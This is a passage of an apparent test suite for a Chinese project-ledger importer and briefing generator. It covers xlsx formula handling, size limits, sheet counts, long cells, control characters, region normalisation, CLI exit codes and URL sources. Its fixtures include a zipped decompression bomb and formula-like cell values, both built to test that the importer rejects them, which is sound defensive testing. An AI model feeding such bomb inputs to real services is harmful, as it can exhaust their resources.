    const r = await book(
      sheetXml(
        `<row r="1">${str("A1", "项目名称")}${str("B1", "所属地区")}${str("C1", "签约金额")}${str("D1", "备注")}</row>` +
          `<row r="2"><c r="A2" t="str"><f>"光"&amp;"伏"</f></c>${str("B2", "西宁市")}${num("C2", 1)}${str("D2", "x")}</row>` +
          `<row r="3">${str("A3", "储能")}${str("B3", "西宁市")}<c r="C3"><f>SUM(C1:C2)</f></c>${str("D3", "x")}</row>` +
          `<row r="4">${str("A4", "钒")}${str("B4", "西宁市")}${num("C4", 1)}<c r="D4" t="str"><f>A4&amp;"!"</f></c></row>` +
          `<row r="5">${str("A5", "锂")}${str("B5", "西宁市")}<c r="C5"><f>1+1</f><v>2</v></c>${str("D5", "x")}</row>`,
      ),
    );
    expect(r.issues.filter((i) => i.code === "formula_without_value").map((i) => [i.row, i.column])).toEqual([
      [2, "项目名称"],
      [3, "签约金额"],
      [4, "备注"],
    ]);
    expect(r.records.map((x) => [x.name, x.signed_amount])).toEqual([["锂", 2]]);
  });

  test("the documented bounds hold for the plain spellings: XFD, too many cells, a lying size", async () => {
    expect(
      (await failure(book(sheetXml(`${LEDGER_HEADER_ROW}<row r="2">${str("A2", "a")}${str("ALM2", "b")}</row>`))))
        ?.code,
    ).toBe("TOO_LARGE");
    const bomb = makeZip([{ name: "xl/worksheets/sheet1.xml", data: new Uint8Array(120 * 1024 * 1024).fill(0x20) }]);
    const t0 = Date.now();
    expect((await failure(imp(bomb, { fileName: "台账.xlsx" })))?.code).toBe("TOO_LARGE");
    expect(Date.now() - t0).toBeLessThan(10_000);
  });

  test("1,500 sheets: the first (or the one asked for) is read; the number of parts is within the limit", async () => {
    const n = 1500;
    const parts = [
      {
        name: "[Content_Types].xml",
        data: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`,
      },
      {
        name: "_rels/.rels",
        data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      },
      {
        name: "xl/workbook.xml",
        data: `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${Array.from({ length: n }, (_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join("")}</sheets></workbook>`,
      },
      {
        name: "xl/_rels/workbook.xml.rels",
        data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${Array.from({ length: n }, (_, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join("")}</Relationships>`,
      },
      ...Array.from({ length: n }, (_, i) => ({
        name: `xl/worksheets/sheet${i + 1}.xml`,
        data: sheetXml(`${LEDGER_HEADER_ROW}<row r="2">${str("A2", `项目${i + 1}`)}${str("B2", "西宁市")}</row>`),
      })),
    ];
    const bytes = makeZip(parts);
    expect((await imp(bytes, { fileName: "台账.xlsx" })).records.map((x) => x.name)).toEqual(["项目1"]);
    expect((await imp(bytes, { fileName: "台账.xlsx", sheet: "S1499" })).records.map((x) => x.name)).toEqual([
      "项目1499",
    ]);
  });

  test("a password-protected workbook (an OLE container) and a PDF are refused with UNSUPPORTED_FORMAT", async () => {
    for (const magic of [
      [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
      [0x25, 0x50, 0x44, 0x46, 0x2d],
    ]) {
      expect(
        (await failure(imp(concat(new Uint8Array(magic), new Uint8Array(600)), { fileName: "台账.xlsx" })))?.code,
      ).toBe("UNSUPPORTED_FORMAT");
    }
  });
});

// ------------------------------------------------------------------------------------------- 9. long cells, XML
describe("9. cells over 32,767 characters and characters XML cannot hold", () => {
  test.each(["项目名称", "备注", "投资方", "来源"])(
    "a %s of 32,768 characters rejects its row (cell_too_long); 32,767 passes",
    async (col) => {
      const r = await imp(
        Papa.unparse([
          { 项目名称: "光伏", 所属地区: "西宁市", [col]: "长".repeat(32768) },
          { 项目名称: "储能", 所属地区: "西宁市", [col]: "长".repeat(32767) },
        ]),
      );
      expect(r.summary).toMatchObject({ accepted: 1, rejected: 1 });
      expect(r.issues.filter((i) => i.code === "cell_too_long").map((i) => [i.row, i.column])).toEqual([[2, col]]);
    },
  );

  test("names holding VT, ESC, U+FFFE and U+FFFF: exported xlsx stays well-formed, each cell replaced by U+FFFD and reported", async () => {
    const names = ["光\u000B伏", "储\u001B能", "钒\uFFFE", "锂\uFFFF"];
    const r = await imp(
      Papa.unparse(
        names.map((n, i) => ({
          项目编号: `P${i}`,
          项目名称: n,
          所属地区: "西宁市",
          签约日期: "2025-02-01",
          签约金额: 1,
        })),
      ),
    );
    expect(r.records.map((x) => x.name)).toEqual(names);
    const b = buildBriefing({ records: r.records }, { period: "2025Q1" });
    const sanitized: SanitizedCell[] = [];
    const bytes = await briefingXlsx({ records: r.records }, b, { sanitized });
    expect(sanitized.map((c) => c.sheet)).toEqual(["台账", "台账", "台账", "台账"]);
    const zip = await (await import("jszip")).default.loadAsync(bytes);
    for (const name of Object.keys(zip.files).filter((n) => n.endsWith(".xml"))) {
      expect([name, XMLValidator.validate(await zip.file(name)!.async("string"))]).toEqual([name, true]);
    }
  });
});

// ------------------------------------------------------------------------------------------- 10. regions
describe("10. regions", () => {
  test.each(["0012", "3月5日", "TRUE", "#N/A", "=西宁", "<>西宁", "西宁|海东", "西\n宁", "１２", "1e5", "$1"])(
    "%s is rejected (region_ambiguous)",
    async (region) => {
      const r = await imp(Papa.unparse([{ 项目名称: "光伏", 所属地区: region }]));
      expect(r.issues.map((i) => i.code)).toEqual(["region_ambiguous"]);
    },
  );

  test("ＡＢＣ区, abc区, ABC区 are one region named by the file's first spelling (folded), each other spelling said once", async () => {
    const r = await imp(
      Papa.unparse(
        ["ＡＢＣ区", "abc区", "ABC区", "abc区", "ＡＢＣ区"].map((region, i) => ({
          项目名称: `p${i}`,
          所属地区: region,
        })),
      ),
    );
    expect(new Set(r.records.map((x) => x.region))).toEqual(new Set(["ABC区"]));
    expect(r.issues.filter((i) => i.code === "region_folded").map((i) => i.row)).toEqual([2, 3]);
  });

  testWith(
    libreOffice(),
    "LibreOffice agrees with the JSON for invisible and special characters: ZWSP, soft hyphen, RLM, ẞ/ß, İ/i̇, wildcards",
    async () => {
      const regions = [
        "西宁市",
        "西宁\u200B市",
        "西宁\u00AD市",
        "\u200F海东",
        "ẞ区",
        "ß区",
        "İ区",
        "i\u0307区",
        "西宁*",
        "海?东",
        "~海北",
      ];
      const ledger = tmp.file(
        "lo-regions.csv",
        Papa.unparse(
          regions.map((r, k) => ({
            项目编号: `P${k}`,
            项目名称: `项目${k}`,
            所属地区: r,
            签约日期: "2025-02-01",
            签约金额: 2 ** k,
          })),
        ),
      );
      const targets = tmp.file(
        "lo-targets.csv",
        Papa.unparse(
          regions
            .filter((_, k) => k !== 5 && k !== 7)
            .map((r, k) => ({ 年份: 2025, 所属地区: r, 指标: "签约金额", 目标值: 1000 + k })),
        ),
      );
      const j = await brief(["--ledger", ledger, "--targets", targets, "--period", "2025Q1"]);
      expect(j.code).toBe(0);
      const out = path.join(tmp.dir, "lo-regions.xlsx");
      expect(
        (
          await brief([
            "--ledger",
            ledger,
            "--targets",
            targets,
            "--period",
            "2025Q1",
            "--format",
            "xlsx",
            "--out",
            out,
          ])
        ).code,
      ).toBe(0);
      const json = JSON.parse(j.out) as {
        rows: { region: string; metric: string; actual: number | null; target: number | null }[];
        text: string;
      };
      const sheet = (await recalculateWithLibreOffice(out)).sheets.get("成绩单 2025Q1")!;
      const b = buildBriefing(
        {
          records: (await imp(fs.readFileSync(ledger))).records,
          targets: (await imp(fs.readFileSync(targets), { kind: "targets" })).targets,
        },
        { period: "2025Q1" },
      );
      const t = briefingLayout(b, briefingText(b, {}), { mode: "portable", refs: "a1" }).tables.find(
        (x) => x.metric === "signed_amount",
      )!;
      const rows = json.rows.filter((r) => r.metric === "signed_amount");
      expect(rows.length).toBe(10); // 9 regions after ß→ẞ and i̇→İ, and 合计
      const got = rows.map((r, k) => [
        r.region,
        csvNumber(sheet[t.firstRow + k]?.[COL.actual]),
        csvNumber(sheet[t.firstRow + k]?.[COL.target]),
      ]);
      expect(got).toEqual(rows.map((r) => [r.region, r.actual, r.target]));
    },
  );
});

// ------------------------------------------------------------------------------------------- 11. CLI & URL
describe("11. the CLI's exit codes and reports; URL sources", () => {
  test("validate: missing file, a directory, a bad --encoding, a bad --kind, no file → exit 2 with a JSON error object", async () => {
    for (const args of [
      ["/nonexistent/台账.csv"],
      [tmp.dir],
      [tmp.file("e.csv", "项目名称,所属地区\n光伏,西宁市\n"), "--encoding", "klingon"],
      [tmp.file("k.csv", "a"), "--kind", "projects"],
      [],
    ]) {
      const r = await validateCli([...args, "--json"]);
      expect([args, r.code]).toEqual([args, 2]);
      expect(JSON.parse(r.out)).toHaveProperty("error.code");
    }
  });

  test("brief: a rejected row is exit 3, listed on stderr, in the JSON's import section and the Markdown's 导入问题", async () => {
    const ledger = tmp.file(
      "b-ledger.csv",
      "项目编号,项目名称,所属地区,签约日期,签约金额\nP1,光伏,西宁市,2025-02-01,1\nP2,储能,,2025-02-01,2\n",
    );
    const targets = tmp.file("b-targets.csv", "年份,所属地区,指标,目标值\n2025,西宁市,签约金额,10\n");
    const j = await brief(["--ledger", ledger, "--targets", targets, "--period", "2025Q1"]);
    expect(j.code).toBe(3);
    expect(j.err).toMatch(/第3行/);
    const parsed = JSON.parse(j.out) as {
      import: { file: string; summary: { rejected: number }; issues: { row: number; column: string }[] }[];
    };
    expect(parsed.import[0]).toMatchObject({
      file: "b-ledger.csv",
      summary: { rejected: 1 },
      issues: [{ row: 3, column: "所属地区" }],
    });
    const md = await brief(["--ledger", ledger, "--targets", targets, "--period", "2025Q1", "--format", "md"]);
    expect(md.code).toBe(3);
    expect(md.out).toMatch(/## 导入问题[\s\S]*\| 3 \| 所属地区 \| 错误 \|/);
  });

  test("brief: an unreadable input (NO_HEADER, a bomb, UTF-16 without BOM) is exit 2 with its message", async () => {
    const targets = tmp.file("u-targets.csv", "年份,所属地区,指标,目标值\n2025,西宁市,签约金额,10\n");
    for (const [name, data] of [
      ["noheader.csv", "随便,什么\n1,2\n"],
      ["u16.csv", utf16le("项目名称,所属地区\r\n光伏,西宁市\r\n")],
      ["bomb.xlsx", xlsx(sheetXml(`${LEDGER_HEADER_ROW}<row r="2">${str("XFD2", "x")}</row>`))],
    ] as const) {
      const r = await brief(["--ledger", tmp.file(name, data), "--targets", targets, "--period", "2025Q1"]);
      expect([name, r.code]).toEqual([name, 2]);
      expect(r.err).toMatch(/[a-z]/);
    }
  });

  test("a URL returning an HTML error page (200, text/html) is refused, never imported", async () => {
    const html =
      "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n<body><h1>502</h1><p>项目名称 所属地区 服务暂不可用</p></body></html>\n";
    for (const url of ["https://bureau.example/ledger.csv", "https://bureau.example/api/ledger"]) {
      const f = await failure(
        importUrl(url, {
          fileName: url,
          fetchImpl: (async () =>
            new Response(html, {
              status: 200,
              headers: { "content-type": "text/html; charset=utf-8" },
            })) as typeof fetch,
        }),
      );
      expect(f?.code).toBe("NO_HEADER");
    }
  });

  test("importTable (Range.values): serial 60 and text dates, booleans and numbers in text fields", () => {
    const r = importTable(
      [
        ["项目名称", "所属地区", "签约日期", "备注"],
        ["光伏", "西宁市", 60, true],
        ["储能", "西宁市", 45747, 12],
        [true, "西宁市", "2025-03-01", ""],
      ],
      { fileName: "台账!Raw", startRow: 4 },
    );
    expect(r.records.map((x) => [x.name, x.signed_date, x.notes])).toEqual([
      ["光伏", null, "TRUE"],
      ["储能", "2025-03-31", "12"],
      ["TRUE", "2025-03-01", null],
    ]);
    expect(r.issues.map((i) => [i.row, i.column])).toEqual([[5, "签约日期"]]);
  });
});
